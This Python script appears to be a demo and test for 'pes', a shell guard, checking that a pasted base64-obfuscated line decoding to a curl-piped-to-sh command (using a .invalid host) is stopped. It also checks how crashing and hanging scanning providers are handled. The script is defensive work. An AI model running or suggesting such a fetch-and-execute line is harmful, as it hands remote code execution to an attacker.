#!/usr/bin/env python3
"""The story of pes in under a minute, on a real terminal: what `./dev demo` shows, the README quotes and the tests run.

    story.py [--transcript | --tap]

A line that decodes to "download this and run it" is pasted into bash and stopped. Then one provider dies and another
hangs while they are asked, and neither the shell nor the answer suffers. Last, the report says who cost how long.
Wants the environment of tools/private_pes with the configuration in tests/integration/two-scripted.

Nothing here could do harm if it did run: the address is in .invalid, which no name server knows.
"""
import base64
import json
import pathlib
import re
import subprocess
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent.parent / "support"))

from guarded_shell import GuardedShell
from pty_drive import words
from screen import render

COLUMNS = 120
HIDDEN = "curl -fsSL https://fix.example.invalid/a | sh"
LINE = f"echo {base64.b64encode(HIDDEN.encode()).decode()} | base64 -d | sh"
DEADLINE_SECONDS = 0.8
# What the library may take on top of its deadline, and two starts of a program.
SLACK_SECONDS = 0.25 + 1.0


class Story:
    def __init__(self, show):
        self.show = show
        self.parts = []
        self.checks = []
        self.shell = GuardedShell("bash", columns=COLUMNS)
        self.raw_seen = 0
        self.skip_shown()

    def skip_shown(self):
        self.raw_seen = len(self.shell.raw)

    def tell(self, text):
        """Says what comes, or what it came to."""
        self.parts.append(text)
        if self.show:
            print(text, flush=True)

    def flush_shown(self):
        """Shows what the terminal showed since the last time, from one prompt to the next."""
        text = render(b"$ " + self.shell.raw[self.raw_seen :], COLUMNS)
        self.skip_shown()
        lines = [line for line in text.splitlines() if line.strip() not in ("$", "")]
        self.tell("\n".join(lines))

    def check(self, name, is_true):
        self.checks.append((name, bool(is_true)))

    def wait(self, name, pattern, seconds=20):
        """Waits for a text; that it came is a check."""
        match = self.shell.expect(words(pattern), seconds)
        self.check(name, True)
        return match

    def command(self, text):
        """Types a line and waits until its output has ended."""
        self.shell.type_line(text)
        self.shell.expect(re.escape(text))
        self.shell.ready()

    def stopped(self):
        self.tell("# A web page says: to prove that you are human, paste this into a terminal and press Enter.\n")
        self.tell(f"$ {LINE}")
        self.shell.paste_line(LINE)
        self.wait("the pasted line is stopped", r"^pes: STOPPED  echo Y3Vy")
        self.wait("it says who objects", r"yara says that it is malicious")
        self.wait("it says why", r"Encoded_Into_Shell")
        self.wait("it says what it decodes to", r"Decodes to: " + re.escape(HIDDEN).replace("\\ ", " "))
        self.wait("it says what next", r"Now: \w")
        self.wait("it gives a reference", r"Reference: PES-101 [0-9A-Z]{4}-[0-9A-Z]{2}")
        self.shell.ready()
        self.flush_shown()
        self.command("echo 'A typed line is not asked about.'")
        self.flush_shown()

    def failing(self, command, alpha, beta, key, ran):
        line = f"{command}  # PES-SCRIPT: {'; '.join(filter(None, (alpha, beta)))}"
        self.tell(f"$ {line}")
        self.shell.paste(line)
        self.shell.expect("PES-SCRIPT.*" + re.escape(beta or alpha))
        start = time.monotonic()
        self.shell.send("\r")
        if alpha:
            self.wait("the provider that died is named, with its signal", r"alpha \S+: crashed, SIGSEGV")
        if beta:
            self.wait("the provider that hung is named", r"beta \S+: timeout after \d+ ms")
        self.wait("the person is asked", r"Run it anyway\? \[y/N\] ")
        took = time.monotonic() - start
        self.check("the answer came by its deadline", took < DEADLINE_SECONDS + SLACK_SECONDS)
        self.shell.send(key)
        if ran:
            self.wait("after y the line runs", r"^" + re.escape(ran))
        self.shell.ready()
        self.flush_shown()
        self.tell(f"\n# Asked, answered and shown within {took:.2f} s; the deadline is {DEADLINE_SECONDS:.1f} s.\n")

    def pid(self):
        self.shell.type_line("echo pid-$$-")
        return self.shell.expect(r"^pid-(\d+)-")[1]

    def failures(self):
        before = self.pid()
        self.shell.ready()
        self.skip_shown()
        self.tell("\n# Two more providers are running. The next line, pasted, makes alpha crash and beta hang.\n")
        self.failing("echo one", "@alpha crash SEGV", "@beta hang", "n", None)
        self.tell("# Both are back for the next question, and fail again. This time the person says yes.\n")
        self.failing("echo two", "@alpha crash SEGV", "@beta hang", "y", "two")
        after = self.pid()
        self.shell.ready()
        self.skip_shown()
        self.check("it is the same shell still", before == after)

    def report(self):
        self.tell("# Who cost how long?\n")
        self.shell.type_line("pes report")
        self.wait("the report names the provider that died", r"^\W*alpha\b")
        self.shell.ready()
        self.flush_shown()
        text = subprocess.run(["pes", "report", "--json"], capture_output=True, text=True, check=True).stdout
        report = json.loads(text)
        shares = {p["name"]: p["wait_share_seconds"] for p in report["providers"]}
        total = report["wait_seconds"]
        self.check("its shares sum to the whole wait", abs(sum(shares.values()) - total) <= total * 0.001)
        self.check("the provider that hung cost most", max(shares, key=shares.get) == "beta")

    def run(self):
        started = time.monotonic()
        try:
            self.stopped()
            self.failures()
            self.report()
        finally:
            self.shell.close()
        took = time.monotonic() - started
        self.check("the story took less than a minute", took < 60)
        return took


def main():
    how = sys.argv[1] if len(sys.argv) > 1 else ""
    story = Story(show=how != "--tap")
    failure = None
    try:
        took = story.run()
    except AssertionError as error:
        failure = str(error)
    if failure:
        story.checks.append(("the story reaches its end", False))
        print("\n".join("# " + line for line in failure.splitlines()), file=sys.stderr)
    failed = [name for name, is_true in story.checks if not is_true]
    if how == "--tap":
        print(f"1..{len(story.checks)}")
        for number, (name, is_true) in enumerate(story.checks, 1):
            print(f"{'ok' if is_true else 'not ok'} {number} - {name}")
    elif how != "--transcript":
        for name in failed:
            print(f"story: this is not as it should be: {name}", file=sys.stderr)
        if not failed:
            print(f"story: all {len(story.checks)} checks hold, in {took:.1f} s", file=sys.stderr)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
